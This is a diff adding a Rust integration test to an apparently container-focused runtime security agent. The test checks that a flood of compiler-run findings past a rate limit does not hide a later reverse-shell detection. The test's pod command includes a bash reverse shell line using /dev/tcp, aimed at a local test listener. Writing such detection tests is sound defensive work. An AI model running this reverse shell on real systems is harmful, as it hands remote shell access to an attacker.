@@ -69,6 +69,43 @@ async fn files_a_container_controls_cannot_freeze_the_agent() {
     ctrd.stop();
 }
 
+/// A flood of LOW findings (40 compiler runs, over the 30-a-minute rate limit of a container)
+/// cannot bury the CRITICAL reverse shell that follows it in the same pod.
+#[tokio::test(flavor = "current_thread")]
+async fn a_flood_of_low_findings_cannot_bury_a_reverse_shell() {
+    if !privileged("a_flood_of_low_findings_cannot_bury_a_reverse_shell") {
+        return;
+    }
+    let ctrd = Containerd::start();
+    let dir = ctrd.dir.join("flood");
+    std::fs::create_dir_all(&dir).unwrap();
+    let agent = start_agent(&dir, "flood", &ctrd.socket, false);
+    let l = listen("id; exit\n");
+    let cmd = format!(
+        "for i in $(seq 40); do echo 'int main(void){{return 0;}}' | gcc -x c -o /tmp/a$i - || exit 9; done; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1",
+        l.port
+    );
+    let started = Instant::now();
+    let pod = ctrd.run_pod(&PodSpec::new("flooder", &["/bin/bash", "-c", &cmd])).await;
+    assert!(l.thread.join().unwrap().contains("uid="), "the shell after the flood ran");
+    let deadline = started + Duration::from_secs(60);
+    while reverse_shells(&agent.findings(), "flooder").is_empty() {
+        assert!(Instant::now() < deadline, "the reverse shell after 40 compiler runs was not reported: {:#?}", agent.findings());
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let compilers = agent
+        .findings()
+        .iter()
+        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == "flooder" && f["finding"]["category"] == "Defense Evasion: Launch Code Compiler Tool In Container")
+        .count();
+    // The flood really met the limit: 30 compiler findings out (and one more for the token that
+    // refills every 2 s of the flood), the rest counted.
+    assert!((30..40).contains(&compilers), "compiler findings of the flood: {compilers}");
+    ctrd.remove_pod(&pod).await;
+    let _ = agent.stop();
+    ctrd.stop();
+}
+
 /// `--config` naming a FIFO (nobody writes to it) or `/dev/zero` is refused at once, naming the
 /// file, instead of hanging or filling memory.
 #[test]
